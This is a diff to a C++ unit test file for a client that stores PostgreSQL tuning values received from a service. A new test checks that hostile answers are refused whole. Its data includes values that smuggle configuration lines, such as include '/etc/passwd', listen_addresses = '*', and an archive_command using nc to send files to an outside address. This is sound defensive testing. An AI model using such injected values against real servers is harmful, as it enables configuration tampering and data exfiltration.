@@ -11,8 +11,10 @@
 
 #include <gtest/gtest.h>
 
+#include <algorithm>
 #include <chrono>
 #include <filesystem>
+#include <optional>
 #include <thread>
 
 namespace {
@@ -56,13 +58,7 @@ protected:
     Server server;
 };
 
-std::vector<std::string> TableValues()
-{
-    std::vector<std::string> values;
-    for (std::size_t i = 0; i < tuningParameterCount; ++i)
-        values.push_back("value" + std::to_string(i));
-    return values;
-}
+std::vector<std::string> TableValues() { return CannedService::TableValues(); }
 
 } // namespace
 
@@ -223,27 +219,28 @@ TEST_F(CannedExchange, ReturnedNamesAndValues)
         const char* description;
         std::vector<std::pair<std::string, std::string>> pairs;
         std::vector<std::pair<std::size_t, std::string>> changed; // slot and value; all others keep "old"
-        bool decoderComplains;
     };
     std::vector<std::pair<std::string, std::string>> reversed = CannedService::TablePairs();
     std::reverse(reversed.begin(), reversed.end());
     std::vector<std::pair<std::size_t, std::string>> everySlot;
     for (std::size_t i = 0; i < tuningParameterCount; ++i)
-        everySlot.emplace_back(i, "value" + std::to_string(i));
+        everySlot.emplace_back(i, TableValues()[i]);
     std::vector<std::pair<std::string, std::string>> padding(17, pair("no_such_parameter", "9"));
     const auto with = [&](std::vector<std::pair<std::string, std::string>> head) {
         head.insert(head.end(), padding.begin(), padding.begin() + (17 - head.size()));
         return head;
     };
     const Case cases[] = {
-        {"the table in reverse order", reversed, everySlot, false},
-        {"another letter case", with({pair("Shared_Buffers", "256MB"), pair("WORK_MEM", "4MB")}), {{1, "256MB"}, {2, "4MB"}}, false},
-        {"the same name twice: the later value stands", with({pair("work_mem", "1MB"), pair("work_mem", "2MB")}), {{2, "2MB"}}, false},
-        {"names outside the table change nothing", with({pair("shared_buffers", "1GB")}), {{1, "1GB"}}, false},
-        {"an empty value empties the slot", with({pair("max_fsm_pages", ""), pair("autovacuum", "on")}), {{4, ""}, {10, "on"}}, false},
-        {"a value that is not hex text stores an empty value", with({{ToHex("work_mem"), "4G"}, pair("autovacuum", "on")}), {{2, ""}, {10, "on"}}, true},
-        {"a name that is not hex text is ignored", with({{"XYZ", ToHex("1")}, pair("autovacuum", "on")}), {{10, "on"}}, true},
-        {"an odd-length name is ignored", with({{"ABC", ToHex("1")}, pair("wal_buffers", "16MB")}), {{6, "16MB"}}, true},
+        {"the table in reverse order", reversed, everySlot},
+        {"another letter case", with({pair("Shared_Buffers", "256MB"), pair("WORK_MEM", "4MB")}), {{1, "256MB"}, {2, "4MB"}}},
+        {"the same name twice: the later value stands", with({pair("work_mem", "1MB"), pair("work_mem", "2MB")}), {{2, "2MB"}}},
+        {"names outside the table change nothing", with({pair("shared_buffers", "1GB")}), {{1, "1GB"}}},
+        {"an empty value empties the slot", with({pair("max_fsm_pages", ""), pair("autovacuum", "on")}), {{4, ""}, {10, "on"}}},
+        {"the largest figures the server holds, each unit, either decimal",
+         with({pair("effective_cache_size", "17179869176kB"), pair("max_connections", "2147483647"),
+               pair("autovacuum_naptime", "2147483647s"), pair("wal_buffers", "1TB"), pair("random_page_cost", ".5"),
+               pair("autovacuum_vacuum_scale_factor", "2."), pair("stats_row_level", "true")}),
+         {{9, "17179869176kB"}, {0, "2147483647"}, {11, "2147483647s"}, {6, "1TB"}, {8, ".5"}, {14, "2."}, {16, "true"}}},
     };
     for (const Case& c : cases) {
         ASSERT_EQ(c.pairs.size(), 17u) << c.description;
@@ -251,14 +248,81 @@ TEST_F(CannedExchange, ReturnedNamesAndValues)
             server.values[i] = wxT("old");
         service.pairs = c.pairs;
         const ExchangeRun run = RunExchangeWith(server, 0);
-        EXPECT_TRUE(run.completed) << c.description;
+        EXPECT_TRUE(run.completed) << c.description << ": " << run.standardError;
         std::vector<std::string> expected(tuningParameterCount, "old");
         for (const auto& [slot, value] : c.changed)
             expected[slot] = value;
         EXPECT_EQ(Values(), expected) << c.description;
-        EXPECT_EQ(run.standardError.find("Invalid Hex String:") != std::string::npos, c.decoderComplains)
-            << c.description << ": " << run.standardError;
     }
+}
+
+// Whoever answers as the service (a compromised service, an interceptor the client trusts, a
+// wrong end point) must not be able to write lines into the configuration file or a value the
+// server refuses: such an answer is refused whole and nothing of it is stored.
+TEST_F(CannedExchange, HostileAnswersAreRefusedWhole)
+{
+    const auto pair = [](const std::string& name, const std::string& value) {
+        return std::make_pair(ToHex(name), ToHex(value));
+    };
+    const auto withValue = [](std::size_t slot, const std::pair<std::string, std::string>& replacement) {
+        std::vector<std::pair<std::string, std::string>> pairs = CannedService::TablePairs();
+        pairs[slot] = replacement;
+        return pairs;
+    };
+    const std::string fourMillionDigits(4000000, '9');
+    const std::string emptyArray = "<item xsi:type=\"SOAP-ENC:Array\" SOAP-ENC:arrayType=\"xsd:string[2]\"></item>";
+    std::string emptyArrays;
+    for (std::size_t i = 0; i < tuningParameterCount; ++i)
+        emptyArrays += emptyArray;
+    struct Case
+    {
+        const char* description;
+        std::vector<std::pair<std::string, std::string>> pairs;
+        std::optional<std::string> rawValues;
+        std::string decoderLine; // what the decoder says on standard error, when it complains
+    };
+    const Case cases[] = {
+        {"a line feed and an include", withValue(1, pair("shared_buffers", "1GB\ninclude '/etc/passwd'")), {}, ""},
+        {"a line feed and two more settings",
+         withValue(2, pair("work_mem", "4MB\nlisten_addresses = '*'\narchive_command = 'nc 203.0.113.9 25 < %p'")), {}, ""},
+        {"a quote and a comment", withValue(10, pair("autovacuum", "on' # ")), {}, ""},
+        {"hyphens as the text", withValue(0, pair("max_connections", "----")), {}, ""},
+        {"four million digits", withValue(9, pair("effective_cache_size", fourMillionDigits)), {}, ""},
+        {"a figure beyond the server's integers", withValue(12, pair("autovacuum_vacuum_threshold", "2147483648")), {}, ""},
+        {"more memory than any setting holds", withValue(3, pair("maintenance_work_mem", "17179869177kB")), {}, ""},
+        {"a unit of another kind", withValue(11, pair("autovacuum_naptime", "1MB")), {}, ""},
+        {"a unit after a space", withValue(1, pair("shared_buffers", "128 MB")), {}, ""},
+        {"a signed figure", withValue(7, pair("checkpoint_segments", "-1")), {}, ""},
+        {"a boolean in capitals", withValue(16, pair("stats_row_level", "ON")), {}, ""},
+        {"a decimal with two points", withValue(8, pair("random_page_cost", "1.2.3")), {}, ""},
+        {"a zero byte hides the rest", withValue(1, {ToHex("shared_buffers"), ToHex("1GB") + "00" + ToHex("include x")}), {}, ""},
+        {"hyphens as the hex text (zero bytes)", withValue(0, {ToHex("max_connections"), "----"}), {}, ""},
+        {"a value that does not decode", withValue(2, {ToHex("work_mem"), "4G"}), {}, "Invalid Hex String:4G\n"},
+        {"a name that does not decode", withValue(10, {"XYZ", ToHex("on")}), {}, "Invalid Hex String:XYZ\n"},
+        {"a long text that does not decode is cut short", withValue(2, {ToHex("work_mem"), fourMillionDigits + "G"}), {},
+         "Invalid Hex String:" + fourMillionDigits.substr(0, 64) + "... (4000001 characters)\n"},
+        {"17 empty two-item arrays", {}, emptyArrays, "Invalid Hex String:(null)\n"},
+        {"17 names outside the table", std::vector<std::pair<std::string, std::string>>(17, pair("no_such_parameter", "1")), {}, ""},
+        {"17 empty values", [&] {
+             std::vector<std::pair<std::string, std::string>> pairs = CannedService::TablePairs();
+             for (auto& [name, value] : pairs)
+                 value.clear();
+             return pairs;
+         }(), {}, ""},
+    };
+    for (const Case& c : cases) {
+        for (std::size_t i = 0; i < tuningParameterCount; ++i)
+            server.values[i] = wxT("old");
+        service.pairs = c.pairs;
+        service.rawValues = c.rawValues;
+        const ExchangeRun run = RunExchangeWith(server, 2);
+        EXPECT_FALSE(run.completed) << c.description;
+        EXPECT_EQ(run.errors, std::vector<std::string>{listModified}) << c.description;
+        EXPECT_EQ(Values(), std::vector<std::string>(tuningParameterCount, "old")) << c.description;
+        EXPECT_NE(run.steps.back(), std::make_pair(6, std::string("Done"))) << c.description;
+        EXPECT_EQ(run.standardError, c.decoderLine) << c.description;
+    }
+    service.rawValues.reset();
 }
 
 TEST_F(CannedExchange, UnavailableMemoryFiguresStopTheExchange)
